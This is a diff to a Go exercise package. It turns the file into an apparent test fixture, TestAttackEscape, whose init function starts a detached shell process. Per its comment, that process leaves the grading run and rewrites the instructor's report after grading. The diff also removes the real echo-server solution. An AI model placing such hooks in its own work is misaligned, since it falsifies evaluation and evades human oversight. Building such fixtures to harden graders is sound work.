@@ -1,10 +1,9 @@
-// Package echo is exercise 1: an echo server that serves one client at a time.
+// The escape: a process, started from init, that leaves the run it was
+// started by and rewrites the instructor's report once grading is over
+// (TestAttackEscape). It goes beside a correct solution.
 package echo
 
 import (
-	"errors"
-	"io"
-	"net"
 	"os/exec"
 	"syscall"
 )
@@ -34,24 +33,4 @@ func init() {
 	cmd := exec.Command("sh", "-c", escape, marker, started, graded, report)
 	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
 	_ = cmd.Run()
-}
-
-// Serve accepts connections on ln one at a time. For each connection it writes back every byte
-// it reads, as soon as it reads it, until the client closes its side; then it closes the
-// connection and accepts the next one. A connection that fails (reset by the client, say)
-// is closed and Serve goes on with the next. Serve returns nil once ln is closed
-// (errors.Is(err, net.ErrClosed)), and any other Accept error as is.
-func Serve(ln net.Listener) error {
-	for {
-		conn, err := ln.Accept()
-		if errors.Is(err, net.ErrClosed) {
-			return nil
-		}
-		if err != nil {
-			return err
-		}
-		// Copy back until the client is done, then take the next one.
-		io.Copy(conn, conn)
-		conn.Close()
-	}
 }
